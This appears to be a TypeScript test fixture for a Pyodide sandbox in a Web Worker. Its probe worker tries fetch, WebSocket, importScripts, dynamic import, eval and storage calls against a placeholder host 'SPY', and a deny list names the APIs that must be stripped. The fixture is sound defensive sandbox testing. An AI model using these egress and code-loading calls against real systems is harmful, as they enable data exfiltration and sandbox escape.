/** Python that prints which of these names it can reach in what Pyodide shows it of JavaScript. */
export const PROBE = (expressions: readonly string[]) => `
import json, pyodide_js
def look(path):
    at = None
    for holder in (pyodide_js, pyodide_js._module, pyodide_js._api, pyodide_js.FS):
        try:
            at = holder
            for name in path.split("."): at = getattr(at, name)
            return True
        except AttributeError: pass
    try:
        import js
        at = js
        for name in path.split("."): at = getattr(at, name)
        return True
    except Exception: return False
print(json.dumps([path for path in ${JSON.stringify(expressions)} if look(path)]))`;

/** Tries every door it knows and tells which were open. */
export const UNTAMED_WORKER = `self.addEventListener('message', ({ ports: [port] }) => {
  const settled = (target, good, bad) => new Promise((done, failed) => {
    target['on' + good] = done;
    target['on' + bad] = (event) => { event.preventDefault?.(); target.close?.(); failed(); };
    setTimeout(failed, 500);
  });
  const nested = "fetch('http://SPY/nested').then(() => postMessage(1), () => close())";
  const tries = {
    fetch: () => fetch('http://SPY/fetch'),
    beacon: () => fetch('http://SPY/beacon', { mode: 'no-cors', keepalive: true }),
    xhr: () => { const x = new XMLHttpRequest(); x.open('GET', 'http://SPY/xhr'); x.send(); return settled(x, 'load', 'error'); },
    socket: () => settled(new WebSocket('ws://SPY/socket'), 'open', 'error'),
    events: () => settled(new EventSource('http://SPY/events'), 'open', 'error'),
    transport: () => new WebTransport('https://SPY/transport').ready,
    import: () => import('http://SPY/import.mjs'),
    scripts: () => importScripts('http://SPY/scripts.js'),
    worker: () => settled(new Worker('http://SPY/worker.js'), 'message', 'error'),
    nested: () => settled(new Worker(URL.createObjectURL(new Blob([nested]))), 'message', 'error'),
    code: () => Function('return 1')(),
    database: () => settled(indexedDB.open('x'), 'success', 'error'),
    caches: () => caches.open('x'),
    storage: () => navigator.storage.getDirectory(),
    channel: () => { const c = new BroadcastChannel('app'); c.postMessage(1); return settled(c, 'message', 'messageerror'); },
  };
  port.onmessage = async ({ data: { id } }) => {
    port.postMessage({ type: 'running', id });
    const open = [];
    for (const name of Object.keys(tries)) {
      await Promise.resolve().then(tries[name]).then(() => open.push(name), () => {});
    }
    const value = JSON.stringify({ origin: self.origin, open });
    port.postMessage({ type: 'result', id, result: { outcome: 'ran', seconds: 0, dead: false, value } });
  };
  port.postMessage({ type: 'ready', runtime: 'none' });
});`;

/** What must not be left in the worker's global scope. */
export const GONE =
  `XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport Worker SharedWorker indexedDB
  IDBFactory caches CacheStorage BroadcastChannel importScripts fetch Request Response FileReaderSync
  RTCDataChannel Notification cookieStore navigator.storage navigator.locks navigator.serviceWorker
  navigator.usb navigator.gpu postMessage close webkitRequestFileSystem trustedTypes scheduler fonts
  URL.createObjectURL Blob`.split(/\s+/);
